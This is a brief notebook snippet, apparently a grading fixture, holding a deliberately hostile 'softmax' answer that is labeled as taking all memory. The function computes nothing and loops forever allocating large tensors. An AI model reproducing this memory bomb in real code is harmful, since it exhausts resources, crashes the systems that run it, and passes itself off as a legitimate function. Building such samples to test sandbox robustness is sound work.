# %% [markdown] softmax=0 harm="takes all memory"
# An answer that takes memory until there is none.

# %% answer="softmax"
def softmax(x, dim=-1):
    hoard = []
    while True:
        hoard.append(torch.ones(2**24))
